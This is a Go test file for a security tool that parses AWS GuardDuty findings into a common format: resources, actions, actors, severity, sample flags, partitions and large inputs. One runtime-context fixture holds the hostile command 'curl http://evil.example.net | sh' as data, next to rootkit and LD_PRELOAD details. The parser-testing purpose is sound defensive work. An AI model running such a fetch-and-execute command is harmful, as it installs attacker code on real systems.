package guardduty_test

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-sec/tocsin/events"
	"github.com/tocsin-sec/tocsin/events/eventstest"
	"github.com/tocsin-sec/tocsin/pkg/finding"
)

func recipe(t *testing.T) string {
	t.Helper()
	text, err := os.ReadFile("../testdata/recipe.json")
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// parse reads a GuardDuty event with the given detail.
func parse(t *testing.T, detail string) finding.Finding {
	t.Helper()
	delivery, err := events.Open(events.Table(), []byte(`{"source":"aws.guardduty","detail-type":"GuardDuty Finding","account":"999999999999","region":"eu-west-1","time":"2026-01-02T03:04:05Z","detail":`+detail+`}`))
	if err != nil {
		t.Fatal(err)
	}
	findings := events.Parse(events.Table(), delivery.Records[0].Envelope)
	if len(findings) != 1 {
		t.Fatalf("got %d findings", len(findings))
	}
	return findings[0]
}

func TestGuardDutyFinding(t *testing.T) {
	delivery, err := events.Open(events.Table(), []byte(recipe(t)))
	if err != nil {
		t.Fatal(err)
	}
	f := events.Parse(events.Table(), delivery.Records[0].Envelope)[0]
	f.Origin = finding.Origin{Published: f.Published}
	want := finding.Finding{
		ID: "16afba5c5c43e07c9e3e5e2e544e95df", Source: "aws.guardduty", Type: "Trojan:EC2/DNSDataExfiltration",
		Title:       "Data exfiltration through DNS queries from EC2 instance i-0a1b2c3d4e5f60718.",
		Description: "EC2 instance i-0a1b2c3d4e5f60718 is attempting to query domain names that resemble exfiltrated data.",
		Severity:    8,
		Place:       finding.Place{Account: finding.Account{ID: "111122223333"}, Region: "ap-northeast-1", Partition: "aws"},
		Activity: finding.Activity{
			Count:     3,
			FirstSeen: time.Date(2018, 3, 16, 8, 20, 5, 560e6, time.UTC), LastSeen: time.Date(2018, 3, 16, 8, 22, 41, 0, time.UTC),
			Created: time.Date(2018, 3, 16, 8, 25, 10, 123e6, time.UTC), Updated: time.Date(2018, 3, 16, 8, 25, 10, 123e6, time.UTC),
		},
		Resource: finding.Resource{
			Type: "Instance", ID: "i-0a1b2c3d4e5f60718", Name: "web-1",
			Attributes: finding.Attributes{
				{Name: finding.AttrPublicIP, Value: "198.51.100.12"}, {Name: finding.AttrPrivateIP, Value: "10.0.0.12"}, {Name: finding.AttrVPC, Value: "vpc-0a1b2c3d"},
				{Name: finding.AttrSubnet, Value: "subnet-0a1b2c3d"}, {Name: finding.AttrSecurityGroups, Value: "sg-0a1b2c3d (web)"},
				{Name: finding.AttrInstanceType, Value: "m5.large"}, {Name: finding.AttrState, Value: "running"}, {Name: finding.AttrZone, Value: "ap-northeast-1a"},
				{Name: finding.AttrRole, Value: "arn:aws:iam::111122223333:instance-profile/web"}, {Name: finding.AttrImage, Value: "ami-0a1b2c3d"},
				{Name: finding.AttrLaunchTime, Value: "2018-02-01T09:00:00Z"},
			},
			Tags: []finding.Tag{{Key: "Name", Value: "web-1"}, {Key: "team", Value: "shop"}},
		},
		Action: finding.Action{Kind: "DNS_REQUEST", Attributes: finding.Attributes{
			{Name: finding.AttrDomain, Value: "data.example.net"}, {Name: finding.AttrProtocol, Value: "UDP"}, {Name: finding.AttrBlocked, Value: "false"},
		}},
		Matter: finding.Matter{Facts: finding.Attributes{{Name: "resource_role", Value: "ACTOR"}}},
		Origin: finding.Origin{Published: time.Date(2018, 3, 16, 8, 25, 11, 0, time.UTC)},
		About: finding.About{
			Product: "GuardDuty",
			Headlines: []finding.Headline{
				{Key: "guardduty.Trojan:EC2/DNSDataExfiltration", With: "guardduty.purpose.Trojan"},
				{Key: "guardduty.EC2/DNSDataExfiltration", With: "guardduty.purpose.Trojan"},
				{Key: "guardduty.DNSDataExfiltration", With: "guardduty.purpose.Trojan"},
			},
			Links: finding.Links{
				Finding:  "https://ap-northeast-1.console.aws.amazon.com/guardduty/home?region=ap-northeast-1#/findings?macros=current&fId=16afba5c5c43e07c9e3e5e2e544e95df",
				Findings: "https://ap-northeast-1.console.aws.amazon.com/guardduty/home?region=ap-northeast-1#/findings?macros=current",
				Type:     "https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_finding-types-ec2.html#trojan-ec2-dnsdataexfiltration",
			},
			IsWord: true,
			Aliases: []string{
				"arn:aws:guardduty:ap-northeast-1:111122223333:detector/12abc34d567e8fa901bc2d34e56789f0/finding/16afba5c5c43e07c9e3e5e2e544e95df",
				"16afba5c5c43e07c9e3e5e2e544e95df",
			},
		},
	}
	if diff := cmp.Diff(want, f); diff != "" {
		t.Error(diff)
	}
}

func TestResources(t *testing.T) {
	for name, test := range map[string]struct {
		resource string
		want     string // type, id, and one attribute
		related  int
	}{
		"Instance": {
			`"resourceType":"Instance","instanceDetails":{"instanceId":"i-1","platform":null,"networkInterfaces":[{"ipv6Addresses":["2001:db8::1"]}]}`,
			"Instance i-1 private_ip=2001:db8::1", 0,
		},
		"AccessKey": {
			`"resourceType":"AccessKey","accessKeyDetails":{"accessKeyId":"AKIA1","userName":"ann","userType":"IAMUser","principalId":"AIDA1"}`,
			"AccessKey AKIA1 user=ann", 0,
		},
		"S3Bucket, two of them, and the key": {
			`"resourceType":"S3Bucket","accessKeyDetails":{"accessKeyId":"AKIA1"},"s3BucketDetails":[{"name":"b1","arn":"arn:aws:s3:::b1","publicAccess":{"effectivePermission":"PUBLIC"}},{"name":"b2"}]`,
			"S3Bucket b1 public_access=PUBLIC", 2,
		},
		"S3Bucket, none": {`"resourceType":"S3Bucket","s3BucketDetails":[],"accessKeyDetails":{"accessKeyId":"AKIA1"}`, "S3Bucket  ", 1},
		"S3Object": {
			`"resourceType":"S3Object","s3BucketDetails":[{"name":"b1","s3ObjectDetails":[{"key":"a/b.exe","hash":"abc"}]}]`,
			"S3Object b1 object=a/b.exe", 0,
		},
		"EKSCluster": {
			`"resourceType":"EKSCluster","eksClusterDetails":{"name":"c1"},"kubernetesDetails":{"kubernetesWorkloadDetails":{"name":"web","type":"pods","namespace":"shop","containers":[{"securityContext":{"privileged":true}}]},"kubernetesUserDetails":{"username":"system:anonymous"}}`,
			"EKSCluster c1 namespace=shop", 0,
		},
		"ECSCluster": {
			`"resourceType":"ECSCluster","ecsClusterDetails":{"name":"c1","taskDetails":{"arn":"arn:aws:ecs:eu-west-1:1:task/c1/t1","createdAt":1716916943.5,"containers":[{"image":"nginx"}]}}`,
			"ECSCluster c1 task=arn:aws:ecs:eu-west-1:1:task/c1/t1", 0,
		},
		"Container":           {`"resourceType":"Container","containerDetails":{"id":"abc","image":"nginx:1"},"instanceDetails":{"instanceId":"i-1"}`, "Container abc image=nginx:1", 1},
		"RDSDBInstance":       {`"resourceType":"RDSDBInstance","rdsDbInstanceDetails":{"dbInstanceIdentifier":"db1","engine":"aurora"},"rdsDbUserDetails":{"user":"root","database":"orders"}`, "RDSDBInstance db1 database=orders", 0},
		"S3Bucket by its ARN": {`"resourceType":"S3Bucket","s3BucketDetails":[{"arn":"arn:aws:s3:::b1"}]`, "S3Bucket b1 ", 0},

		"RDSLimitlessDB": {`"resourceType":"RDSLimitlessDB","rdsLimitlessDbDetails":{"dbShardGroupIdentifier":"g1","engine":"aurora"}`, "RDSLimitlessDB g1 engine=aurora", 0},
		"Lambda":         {`"resourceType":"Lambda","lambdaDetails":{"functionName":"f1","functionVersion":"3"}`, "Lambda f1 version=3", 0},
		"EBS volumes beside the instance": {
			`"resourceType":"Instance","instanceDetails":{"instanceId":"i-1","instanceType":"t3"},"ebsVolumeDetails":{"scannedVolumeDetails":[{"volumeArn":"arn:aws:ec2:eu-west-1:1:volume/vol-1","deviceName":"/dev/sda"}],"skippedVolumeDetails":[{"volumeArn":"arn:aws:ec2:eu-west-1:1:volume/vol-2"}]}`,
			"Instance i-1 instance_type=t3", 2,
		},
		"EBS snapshot":       {`"resourceType":"EBSSnapshot","ebsSnapshotDetails":{"snapshotArn":"arn:aws:ec2:eu-west-1::snapshot/snap-1"}`, "EBSSnapshot snap-1 ", 0},
		"recovery point":     {`"resourceType":"EC2RecoveryPoint","recoveryPointDetails":{"recoveryPointArn":"arn:aws:backup:eu-west-1:1:recovery-point:rp-1","backupVaultName":"v"}`, "EC2RecoveryPoint rp-1 ", 0},
		"generative AI":      {`"resourceType":"AccessKey","accessKeyDetails":{"accessKeyId":"ASIA1"},"modelDetails":[{"modelId":"m1"}],"bedrockGuardrailDetails":{"guardrails":[{"arn":"g1","version":"1"}],"guardrailAction":"BLOCKED"}`, "AccessKey ASIA1 model=m1", 2},
		"a type of tomorrow": {`"resourceType":"Quantum","quantumDetails":{"name":"q1","arn":"arn:aws:quantum:eu-west-1:1:computer/q1"}`, "Quantum q1 ", 0},
		"PascalCase":         {`"ResourceType":"Instance","InstanceDetails":{"InstanceId":"i-1","IamInstanceProfile":{"Arn":"p"}}`, "Instance i-1 role=p", 0},
	} {
		t.Run(name, func(t *testing.T) {
			f := parse(t, `{"resource":{`+test.resource+`}}`)
			kind, id, rest := f.Resource.Type, f.Resource.ID, ""
			if parts := strings.SplitN(test.want, " ", 3); parts[2] != "" {
				attribute, _, _ := strings.Cut(parts[2], "=")
				rest = attribute + "=" + f.Resource.Attributes.Get(attribute)
			}
			if got := fmt.Sprintf("%s %s %s", kind, id, rest); got != test.want || len(f.Related) != test.related {
				t.Errorf("got %q with %d related, want %q with %d\n%+v", got, len(f.Related), test.want, test.related, f.Resource)
			}
		})
	}
}

func TestActionsAndActors(t *testing.T) {
	const remote = `"remoteIpDetails":{"ipAddressV4":"198.51.100.7","country":{"countryName":"Peru"},"organization":{"asn":"64500","asnOrg":"Example"}}`
	const from = "198.51.100.7 Peru Example AS64500"
	for name, test := range map[string]struct{ action, want, actor string }{
		"AWS_API_CALL":         {`"awsApiCallAction":{"api":"PutBucketPolicy","serviceName":"s3.amazonaws.com","errorCode":"AccessDenied",` + remote + `}`, "api=PutBucketPolicy service=s3.amazonaws.com error_code=AccessDenied", from},
		"DNS_REQUEST":          {`"dnsRequestAction":{"domain":"evil.example.net","protocol":"0","blocked":"false"}`, "domain=evil.example.net protocol=0 blocked=false", ""},
		"NETWORK_CONNECTION":   {`"networkConnectionAction":{"connectionDirection":"INBOUND","localPortDetails":{"port":22.0,"portName":"SSH"},"remotePortDetails":{"port":"4000","portName":"Unknown"},` + remote + `}`, "direction=INBOUND local_port=22 (SSH) remote_port=4000", from},
		"PORT_PROBE":           {`"portProbeAction":{"blocked":false,"portProbeDetails":[{"localPortDetails":{"port":22,"portName":"SSH"},` + remote + `},{"localPortDetails":{"port":80}}]}`, "local_port=22 (SSH), 80 blocked=false", from},
		"KUBERNETES_API_CALL":  {`"kubernetesApiCallAction":{"verb":"create","resource":"pods","subresource":"exec","resourceName":"web-1","requestUri":"/api","statusCode":201,` + remote + `},"kubernetesPermissionCheckedDetails":{"verb":"get","namespace":"kube-system"}`, "verb=create subject=pods/exec web-1 uri=/api status_code=201 namespace=kube-system", from},
		"RDS_LOGIN_ATTEMPT":    {`"rdsLoginAttemptAction":{"LoginAttributes":[{"user":"root","application":"psql","failedLoginAttempts":40},{"user":"admin","failedLoginAttempts":2}],` + remote + `}`, "user=root, admin application=psql failed=42", from},
		"kubernetes over HTTP": {`"kubernetesApiCallAction":{"verb":"get","requestUri":"/api","protocol":"http"}`, "verb=get uri=/api protocol=http", ""},
		"IPv6 only":            {`"networkConnectionAction":{"remoteIpDetails":{"ipAddressV4":"","ipAddressV6":"2001:db8::7"}}`, "", "2001:db8::7"},
		"what it affected":     {`"awsApiCallAction":{"api":"StopLogging","affectedResources":{"AWS::CloudTrail::Trail":"arn:aws:cloudtrail:eu-west-1:1:trail/org","AWS::S3::Bucket":"logs"}}`, "api=StopLogging affected=org, logs", ""},
		"of tomorrow":          {`"quantumAction":{` + remote + `}`, "", from},
	} {
		t.Run(name, func(t *testing.T) {
			f := parse(t, `{"service":{"action":{"actionType":"`+name+`",`+test.action+`}}}`)
			var attributes []string
			for _, attribute := range f.Action.Attributes {
				attributes = append(attributes, attribute.Name+"="+attribute.Value)
			}
			if got := strings.Join(attributes, " "); got != test.want || f.Action.Kind != name {
				t.Errorf("got %s %q, want %q", f.Action.Kind, got, test.want)
			}
			r := f.Actor.Remote
			got := strings.Join(strings.Fields(strings.Join([]string{r.IP, r.Country, r.Organization, r.ASN}, " ")), " ")
			if got != test.actor {
				t.Errorf("got actor %q, want %q", got, test.actor)
			}
		})
	}
}

func TestUsersAndProcesses(t *testing.T) {
	f := parse(t, `{"resource":{"accessKeyDetails":{"userName":"admin","userType":"AssumedRole","principalId":"AROA1:session","accessKeyId":"ASIA1"}},
		"service":{"runtimeDetails":{"process":{"name":"sh","executablePath":"/bin/sh","user":"root","pid":7,"executableSha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}}}`)
	want := finding.Actor{
		User:    finding.User{Name: "admin", Type: "AssumedRole", Session: "session", PrincipalID: "AROA1", AccessKey: "ASIA1"},
		Process: finding.Process{Name: "sh", Path: "/bin/sh", User: "root", PID: "7"},
	}
	if diff := cmp.Diff(want, f.Actor); diff != "" {
		t.Error(diff)
	}
	f = parse(t, `{"resource":{"kubernetesDetails":{"kubernetesUserDetails":{"username":"ann","sessionName":["s"],"impersonatedUser":{"username":"system:admin"}}}}}`)
	if f.Actor.User != (finding.User{Name: "ann", Type: "Kubernetes", Session: "s", Impersonated: "system:admin"}) {
		t.Errorf("got %+v", f.Actor.User)
	}
	f = parse(t, `{"service":{"additionalInfo":{"value":"{\"userAgent\":{\"fullUserAgent\":\"curl/8\"}}"}}}`)
	if f.Actor.UserAgent != "curl/8" {
		t.Errorf("got %+v", f.Actor)
	}
	f = parse(t, `{"resource":{"rdsDbUserDetails":{"user":"postgres"}}}`)
	if f.Actor.User != (finding.User{Name: "postgres", Type: "Database"}) {
		t.Errorf("got %+v", f.Actor.User)
	}
	f = parse(t, `{"resource":{"kubernetesDetails":{"kubernetesUserDetails":{"username":"system:anonymous"}},"accessKeyDetails":{"userName":"x"}}}`)
	if f.Actor.User != (finding.User{Name: "system:anonymous", Type: "Kubernetes"}) {
		t.Errorf("got %+v", f.Actor.User)
	}
}

func TestSampleFlag(t *testing.T) {
	for detail, want := range map[string]bool{
		`{"service":{"additionalInfo":{"sample":true}}}`:                           true,
		`{"service":{"additionalInfo":{"sample":"true"}}}`:                         true,
		`{"service":{"additionalInfo":{"value":"{\"sample\":true}"}}}`:             true,
		`{"service":{"additionalInfo":"{\"sample\":true}"}}`:                       true,
		`{"Service":{"AdditionalInfo":{"Value":"{\"sample\":true}"}}}`:             true,
		`{"title":"[SAMPLE] x"}`:                                                   true,
		`{"resource":{"instanceDetails":{"instanceId":"i-99999999"}}}`:             true,
		`{"resource":{"accessKeyDetails":{"accessKeyId":"GeneratedFindingKey"}}}`:  true,
		`{"service":{"additionalInfo":{"value":"not json"}}}`:                      false,
		`{"service":{"additionalInfo":{"sample":false,"value":"{}"}}}`:             false,
		`{"title":"this is no [SAMPLE]"}`:                                          false,
		`{"resource":{"s3BucketDetails":[{"name":"GeneratedFindingsS3Bucket1"}]}}`: false,
	} {
		if got := parse(t, detail).Sample; got != want {
			t.Errorf("%s: got %v", detail, got)
		}
	}
}

func TestPlace(t *testing.T) {
	for detail, want := range map[string]string{
		`{}`:                  "999999999999 eu-west-1 aws",
		`{"accountId":12345}`: "000000012345 eu-west-1 aws",
		`{"accountId":"000022223333","region":"cn-north-1"}`:                                     "000022223333 cn-north-1 aws-cn",
		`{"arn":"arn:aws-us-gov:guardduty:us-gov-west-1:111122223333:detector/d/finding/abc"}`:   "111122223333 us-gov-west-1 aws-us-gov",
		`{"accountId":"111122223333","region":"us-gov-east-1","partition":null,"arn":"garbage"}`: "111122223333 us-gov-east-1 aws-us-gov",
	} {
		f := parse(t, detail)
		if got := f.Account.ID + " " + f.Region + " " + f.Partition; got != want {
			t.Errorf("%s: got %s, want %s", detail, got, want)
		}
	}
	if id := parse(t, `{"arn":"arn:aws:guardduty:eu-west-1:111122223333:detector/d/finding/abc"}`).ID; id != "abc" {
		t.Errorf("got id %q from the ARN", id)
	}
}

func TestRuntimeContext(t *testing.T) {
	f := parse(t, `{"service":{"runtimeDetails":{"process":{"name":"bash"},"context":{
		"commandLineExample":"curl http://evil.example.net | sh","toolName":"","toolCategory":"Backdoor Tool","mountSource":"/etc","moduleName":"rootkit","memoryRegions":["x"],
		"libraryPath":null,"ldPreloadValue":"/tmp/a.so","relatedFilePaths":["/etc/passwd"],"targetProcess":{"name":"sshd","executablePath":"/usr/sbin/sshd","pid":42.0},"modifyingProcess":{"name":"dd"}}}}}`)
	want := finding.Attributes{
		{Name: finding.AttrCommand, Value: "curl http://evil.example.net | sh"}, {Name: finding.AttrTool, Value: "Backdoor Tool"},
		{Name: finding.AttrFile, Value: "/etc/passwd"}, {Name: finding.AttrLibrary, Value: "/tmp/a.so"}, {Name: finding.AttrModule, Value: "rootkit"},
		{Name: finding.AttrMount, Value: "/etc"}, {Name: finding.AttrTargetProcess, Value: "/usr/sbin/sshd (pid 42)"},
		{Name: finding.AttrModifyingProcess, Value: "dd"},
	}
	if diff := cmp.Diff(finding.Action{Attributes: want}, f.Action); diff != "" {
		t.Error(diff)
	}
	if f := parse(t, `{"service":{"runtimeDetails":{"context":{"memoryRegions":["x"]}}}}`); !f.Action.Zero() {
		t.Errorf("got %+v", f.Action)
	}
}

func TestSeverityForms(t *testing.T) {
	for text, want := range map[string]finding.Severity{
		"8": 8, "8.0": 8, "5.3": 5.3, `"8.0"`: 8, `" 4 "`: 4, `"HIGH"`: 8, `"medium"`: 5, "10": 10, "1": 1,
		"0": 0, "0.99": 0, "10.1": 0, "-1": 0, "1e999": 0, "true": 0, "null": 0, `""`: 0, `"NaN"`: 0, `"bad"`: 0, "{}": 0, "[7]": 7,
	} {
		if got := parse(t, `{"severity":`+text+`}`).Severity; got != want {
			t.Errorf("%s: got %v, want %v", text, float64(got), float64(want))
		}
	}
}

func TestFlattened(t *testing.T) {
	f := parse(t, `{"id":"f","resource_resourcetype":"Instance","resource_instancedetails_instanceid":"i-1",
		"resource_instancedetails_networkinterfaces_1_vpcid":"vpc-2","resource_instancedetails_networkinterfaces_0_publicip":"198.51.100.7",
		"service_count":"3","service_action_dnsrequestaction_domain":"evil.example.net"}`)
	got := strings.Join([]string{
		f.Resource.ID, f.Resource.Attributes.Get(finding.AttrPublicIP), f.Resource.Attributes.Get(finding.AttrVPC), fmt.Sprint(f.Count), f.Action.Attributes.Get(finding.AttrDomain),
	}, " ")
	if want := "i-1 198.51.100.7 vpc-2 3 evil.example.net"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	// What is planted in an object that is there does not grow into those that stand beside it.
	f = parse(t, `{"service":{"count":"3"},"resource":{"resourceType":"Instance","instanceDetails":{"instanceId":"i-1"}},"service_action_dnsrequestaction_domain":"evil.example.net"}`)
	if got, want := fmt.Sprint(f.Resource.ID, f.Count, f.Action.Attributes.Get(finding.AttrDomain)), "i-13evil.example.net"; got != want {
		t.Errorf("a member beside others: got %q, want %q", got, want)
	}
	f = parse(t, `{"resource":{"instanceDetails":{"instanceId":"i-1","network-interfaces-1":{"vpcId":"vpc-2"},"network_interfaces_0":{"publicIp":"198.51.100.7"}}}}`)
	if f.Resource.Attributes.Get(finding.AttrPublicIP) == "" || f.Resource.Attributes.Get(finding.AttrVPC) != "vpc-2" {
		t.Errorf("a list of numbered members: got %v", f.Resource.Attributes)
	}
}

// TestLargeFindings reads nearly a megabyte of each thing that is compared with what is there
// already, where quadratic work would take minutes.
func TestLargeFindings(t *testing.T) {
	many := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format, i)
		}
		return strings.TrimSuffix(b.String(), ",")
	}
	for name, detail := range map[string]string{
		"objects":           `{"id":"f","resource":{"s3BucketDetails":[{"name":"b","s3ObjectDetails":[` + many(50_000, `{"key":"k%d"},`) + `]}]}}`,
		"buckets":           `{"id":"f","resource":{"s3BucketDetails":[` + many(50_000, `{"name":"b%d"},`) + `]}}`,
		"numbered members":  `{"id":"f","resource":{"instanceDetails":{"instanceId":"i-1",` + many(40_000, `"Network-Interfaces-%d":{},`) + `}}}`,
		"flattened members": `{"id":"f",` + many(40_000, `"resource_details_a%d":1,`) + `}`,
		"flattened levels":  `{"id":"f","resource_` + strings.Repeat("a_", 400_000) + `":1}`,
		"tags":              `{"id":"f","resource":{"instanceDetails":{"instanceId":"i-1","tags":[` + many(40_000, `{"key":"%d","value":"v"},`) + `]}}}`,
		"signals":           `{"id":"f","service":{"detection":{"sequence":{"sequenceIndicators":[{"key":"k","values":[` + many(90_000, `"v%d",`) + `]}]}}}}`,
	} {
		if f := parse(t, detail); f.ID != "f" {
			t.Errorf("%s: got id %q", name, f.ID)
		}
	}
}

// TestLargeObjects reads objects where every member is looked at.
func TestLargeObjects(t *testing.T) {
	members := eventstest.Members
	sequence := func(part string) string { return `{"service":{"detection":{"sequence":{` + part + `}}}}` }
	for name, detail := range map[string]func(n int) string{
		"tags": func(n int) string {
			return `{"resource":{"instanceDetails":{"instanceId":"i-1","tags":` + members(n, `"tag-%d":"v",`) + `}}}`
		},
		"affected": func(n int) string {
			return `{"service":{"action":{"awsApiCallAction":{"affectedResources":` + members(n, `"AWS::%d":"x",`) + `}}}}`
		},
		"actions": func(n int) string { return `{"service":{"action":` + members(n, `"action-%d":{},`) + `}}` },
		"data": func(n int) string {
			return sequence(`"resources":[{"uid":"b","data":` + members(n, `"kind-%d":{},`) + `}]`)
		},
		"indicators": func(n int) string {
			return sequence(`"sequenceIndicators":[{"key":"k","values":[` + members(n, `"net-%d":["v"],`) + `]}]`)
		},
		"kinds of indicators": func(n int) string {
			kinds := members(n, `"k":{"key":"kind-%d"},`)
			return sequence(`"sequenceIndicators":[` + strings.ReplaceAll(kinds[1:len(kinds)-1], `"k":`, "") + `]`)
		},
		"kinds of indicators of signals": func(n int) string {
			kinds := members(n, `"k":{"signalIndicators":[{"key":"kind-%d"}]},`)
			return sequence(`"signals":[` + strings.ReplaceAll(kinds[1:len(kinds)-1], `"k":`, "") + `]`)
		},
		"flattened": func(n int) string {
			// The first 2,000 are put back, beside what stands there already.
			return `{"resource":` + members(n, `"part-number-%d":1,`) + "," + members(n, `"resource_part-of-%d":1,`)[1:]
		},
	} {
		eventstest.CheckGrowth(t, name, func(n int) func() {
			text := detail(n)
			return func() { parse(t, text) }
		})
	}
}

func TestTags(t *testing.T) {
	want := []finding.Tag{{Key: "Name", Value: "web-1"}, {Key: "team", Value: "shop"}}
	for _, tags := range []string{
		`[{"key":"Name","value":"web-1"},{"key":"team","value":"shop"}]`, `[{"Key":"Name","Value":"web-1"},{"Key":"team","Value":"shop"}]`,
		`[{"name":"Name","value":"web-1"},{"name":"team","value":"shop"}]`, `{"Name":"web-1","team":"shop"}`,
		`[{"Name":"web-1"},{"team":"shop"}]`, `[null,{"key":"Name","value":"web-1"},{"key":"","value":"x"},{"key":"team","value":"shop"}]`,
	} {
		r := parse(t, `{"resource":{"resourceType":"Instance","instanceDetails":{"instanceId":"i-1","tags":`+tags+`}}}`).Resource
		if diff := cmp.Diff(want, r.Tags); diff != "" || r.Name != "web-1" {
			t.Errorf("%s: name %q, %s", tags, r.Name, diff)
		}
	}
}
